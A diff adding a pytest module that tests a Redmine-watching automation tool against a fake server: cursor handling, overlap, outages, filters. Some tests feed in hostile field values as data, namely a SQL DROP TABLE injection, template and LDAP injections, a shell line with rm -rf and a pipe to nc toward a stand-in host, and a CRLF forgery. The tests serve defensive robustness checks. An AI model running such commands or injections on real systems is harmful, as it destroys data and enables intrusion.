@@ -1,0 +1,249 @@
+"""`adminkit watch` over Redmine's issue search, against a protocol-level fake of it:
+the (updated_on, id) cursor, ties inside one second across pages, a late commit found
+by the overlap window, the start of the watch, a Redmine that fails mid-poll, and the
+profile's filters. The Redmine backend is the real one (httpx); the lab test
+(tests/integration/test_watch_redmine.py) runs the same on the real Redmine.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pydantic import ValidationError
+
+from adminkit.automation.feeds import RedmineFeed
+from adminkit.automation.service import RunService
+from adminkit.automation.settings import WatchConfig
+from adminkit.automation.watch import Watcher
+from adminkit.core.config import Profile
+from adminkit.core.errors import ConnectionFailed, UsageError
+from adminkit.journal.store import Journal
+from adminkit.journal.triggers import Triggers
+from adminkit.tickets.redmine import Redmine
+from tests.fakes.httpserver import Reply, Request, proxy_reply
+from tests.fakes.redmine import FakeRedmine
+from tests.fakes.ticketfake import SECRET_ENV
+
+PLAYBOOKS = Path(__file__).resolve().parents[2] / "playbooks"
+T = "2026-12-07T08:00:{:02d}Z"
+
+
+class FlakyRedmine(FakeRedmine):
+    """Answers the Nth search from now with a proxy's 502 (Redmine down mid-poll)."""
+
+    fail_search_at: int | None = None
+    searches = 0
+
+    def _search(self, req: Request) -> Reply:
+        self.searches += 1
+        if self.fail_search_at is not None and self.searches == self.fail_search_at:
+            return proxy_reply(502)
+        return super()._search(req)
+
+
+@pytest.fixture
+def fake() -> Iterator[FlakyRedmine]:
+    with FlakyRedmine() as redmine:
+        yield redmine
+
+
+def profile(fake: FakeRedmine, monkeypatch: pytest.MonkeyPatch, **watch: Any) -> Profile:
+    monkeypatch.setenv(SECRET_ENV, fake.secret)
+    return Profile.model_validate({
+        "name": "acme",
+        "tickets": {"kind": "redmine", "url": fake.url, "token": f"env:{SECRET_ENV}",
+                    "queue": "helpdesk"},
+        "automation": {"watch": {"overlap": 10, **watch}, "rules": [
+            {"name": "never", "playbook": "onboard-user", "match": {"subject": "^never$"},
+             "requesters": ["*"]}]}})
+
+
+@pytest.fixture
+def make(env: Any, fake: FakeRedmine, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
+    made: list[tuple[Watcher, Redmine]] = []
+
+    def watcher(after: str | None = None, **watch: Any) -> Watcher:
+        p = profile(fake, monkeypatch, **watch)
+        system = Redmine(p)
+        w = Watcher(RunService(journal_path=env.journal, config_dir=env.config), p, system,
+                    lambda n: PLAYBOOKS / f"{n}.yaml", after=after)
+        made.append((w, system))
+        return w
+
+    yield watcher
+    for w, system in made:
+        w.close()
+        system.close()
+
+
+def test_ties_in_one_second_across_pages_are_each_taken_once(
+        fake: FlakyRedmine, make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    same = [fake.add_issue(f"tie {n}", at=T.format(1)) for n in range(7)]
+    later = [fake.add_issue(f"later {n}", at=T.format(2 + n)) for n in range(4)]
+    monkeypatch.setattr("adminkit.automation.feeds.PAGE", 3)  # pages end inside the tie
+    w = make(after=str(fence))
+    assert w.poll().seen == [str(i) for i in same + later]
+    assert w.poll().seen == []  # read again (overlap), nothing taken twice
+
+
+def test_a_late_commit_inside_the_overlap_is_taken_a_restart_repeats_nothing(
+        fake: FlakyRedmine, make: Any) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    first = fake.add_issue("first", at=T.format(20))
+    w = make(after=str(fence))
+    assert w.poll().seen == [str(first)]
+    late = fake.add_issue("late", at=T.format(15))  # saved before `first`, seen after it
+    too_old = fake.add_issue("older than the overlap", at=T.format(5))
+    w.close()
+    again = make()  # restarted: the cursor is in the journal
+    assert again.poll().seen == [str(late)]  # 15 s >= 20 s - overlap 10 s; 5 s is not
+    fake.touch(first, T.format(30))  # a note on it: newer, the same trigger
+    assert again.poll().seen == []
+    assert str(too_old) not in {t.ticket.split(":")[1] for t in
+                                Triggers(again.journal).all() if t.ticket}
+
+
+def test_issues_before_the_start_are_never_taken_even_when_they_change(
+        fake: FlakyRedmine, make: Any) -> None:
+    old = fake.add_issue("old", at=T.format(0))
+    fence = fake.add_issue("fence", at=T.format(1))
+    w = make(after=str(fence))
+    fake.touch(old, T.format(9))
+    new = fake.add_issue("new", at=T.format(10))
+    assert w.poll().seen == [str(new)]
+
+
+def test_after_a_time_or_zero_and_bad_values(fake: FlakyRedmine, make: Any) -> None:
+    a = fake.add_issue("a", at=T.format(3))
+    b = fake.add_issue("b", at=T.format(7))
+    assert make(after="2026-12-07T08:00:05Z").poll().seen == [str(b)]
+    with pytest.raises(UsageError, match="cursor at ticket"):
+        make(after="0").poll()
+    for bad in ("yesterday", "999999"):
+        with pytest.raises(UsageError, match=r"not an issue number|has no issue"):
+            RedmineFeed(Redmine(profile(fake, pytest.MonkeyPatch())), "helpdesk",
+                        overlap=1).start(bad)
+    assert a
+
+
+def test_a_redmine_down_mid_poll_moves_no_cursor_and_loses_nothing(
+        fake: FlakyRedmine, make: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    issues = [fake.add_issue(f"n{n}", at=T.format(1 + n)) for n in range(5)]
+    monkeypatch.setattr("adminkit.automation.feeds.PAGE", 2)
+    w = make(after=str(fence))
+    fake.fail_search_at = fake.searches + 2 + 1  # the start's search, page 1, then page 2
+    with pytest.raises(ConnectionFailed):
+        w.poll()
+    assert Triggers(w.journal).all() == []
+    assert w.poll().seen == [str(i) for i in issues]
+
+
+def test_max_per_poll_takes_a_backlog_in_turns(fake: FlakyRedmine, make: Any) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    issues = [str(fake.add_issue(f"n{n}", at=T.format(1 + n))) for n in range(5)]
+    w = make(after=str(fence), max_per_poll=2)
+    got = [w.poll().seen for _ in range(4)]
+    assert got == [issues[:2], issues[2:4], issues[4:], []]
+
+
+def test_a_bad_answer_stops_the_poll_and_moves_nothing(fake: FlakyRedmine,
+                                                       make: Any) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    bad = fake.add_issue("bad", at=T.format(1))
+    w = make(after=str(fence))
+    fake.issues[bad]["updated_on"] = "2026-12-07T08:00:09'; DROP TABLE issues; --"
+    with pytest.raises(ConnectionFailed, match="not a time"):
+        w.poll()
+    journal = Journal(w.journal.path)
+    assert Triggers(journal).all() == []
+    journal.close()
+
+
+def test_the_profiles_filters_go_to_redmine_and_only_known_ones(
+        fake: FlakyRedmine, make: Any) -> None:
+    fence = fake.add_issue("fence", at=T.format(0))
+    fake.add_issue("other", at=T.format(1))
+    fake.issues[fake.add_issue("mine", at=T.format(2))]["custom_fields"][0]["value"] = "Lab"
+    w = make(after=str(fence), filters={"cf_1": "Lab", "tracker_id": "3"})
+    assert [fake.issues[int(i)]["subject"] for i in w.poll().seen] == ["mine"]
+    last = fake.seen("GET", "/issues.json")[-1]
+    assert last.arg("cf_1") == "Lab" and last.arg("tracker_id") == "3"
+    assert last.arg("status_id") == "*" and last.arg("project_id") == "helpdesk"
+    for bad in ({"sort": "id"}, {"updated_on": ">=2020-01-01"}, {"project_id": "x"},
+                {"cf_1": "a\nb"}, {"cf_1": ""}, {"status_id": "x" * 300}):
+        with pytest.raises(ValidationError):
+            WatchConfig.model_validate({"filters": bad})
+
+
+HOSTILE = {"template": "{{ 7 * 7 }}{% raw %}", "ldap": "jnovak)(uid=*))(|(uid=*",
+           "shell": "x; rm -rf / $(id) `id` | nc evil 1",
+           "control": "jnovak\r\nadminkit:R-1:0; forged",
+           "nul": "a\x00b", "huge": "A" * 1_000_000}
+
+
+def test_hostile_issue_fields_are_data_or_refused_with_a_short_clean_note(
+        fake: FlakyRedmine, env: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(SECRET_ENV, fake.secret)
+    p = Profile.model_validate({
+        "name": "acme",
+        "tickets": {"kind": "redmine", "url": fake.url, "token": f"env:{SECRET_ENV}",
+                    "queue": "helpdesk"},
+        "automation": {"approvers": ["Boss"], "rules": [
+            {"name": "unlock", "playbook": "unlock-account", "requires_approval": True,
+             "match": {"type": "Support", "subject": "^unlock"},
+             "fields": {"login": "Location"}, "requesters": ["*"]}]}})
+    fence = fake.add_issue("fence", at=T.format(0))
+    ids = {}
+    for n, (name, value) in enumerate(HOSTILE.items()):
+        ids[name] = fake.add_issue(f"unlock {name}", at=T.format(1 + n))
+        fake.issues[ids[name]]["custom_fields"][0]["value"] = value
+    system = Redmine(p)
+    w = Watcher(RunService(journal_path=env.journal, config_dir=env.config), p, system,
+                lambda n: PLAYBOOKS / f"{n}.yaml", after=str(fence))
+    try:
+        report = w.poll()
+        status = {o.key.split(":")[1]: o.status for o in report.outcomes}
+        triggers = {t.ticket: t for t in Triggers(w.journal).all()}
+    finally:
+        w.close()
+        system.close()
+    for name in ("template", "ldap", "shell"):  # one line: data, waiting for an approver
+        assert status[str(ids[name])] == "waiting", (name, status)
+        plan = triggers[f"redmine:{ids[name]}"].detail["plan"]
+        assert plan["inputs"] == {"login": HOSTILE[name]}  # as written, never rendered
+    for name in ("control", "nul", "huge"):
+        assert status[str(ids[name])] == "refused", (name, status)
+    for issue_id in ids.values():
+        for note in fake.notes_of(issue_id):
+            assert len(note["notes"]) < 2000 and "\r" not in note["notes"]
+            assert "\x00" not in note["notes"] and "\nadminkit:R-1" not in note["notes"]
+
+
+def test_a_running_watch_outlives_a_redmine_that_is_down(fake: FlakyRedmine,
+                                                         make: Any) -> None:
+    import threading
+
+    fence = fake.add_issue("fence", at=T.format(0))
+    issue = fake.add_issue("n", at=T.format(1))
+    w = make(after=str(fence))
+    w.interval = 0.01
+    fake.fail_search_at = fake.searches + 2  # the start's search passes, the poll's fails
+    reports: list[Any] = []
+    stop = threading.Event()
+
+    def seen(report: Any) -> None:
+        reports.append(report)
+        if len(reports) == 2:
+            stop.set()
+
+    w.run(stop, on_poll=seen)
+    assert reports[0].error and "502" in reports[0].error and reports[0].seen == []
+    assert reports[1].error is None and reports[1].seen == [str(issue)]
+    fake.fail_search_at = fake.searches + 1
+    with pytest.raises(ConnectionFailed):  # --once: the command's error (exit 3)
+        w.run(threading.Event(), once=True)
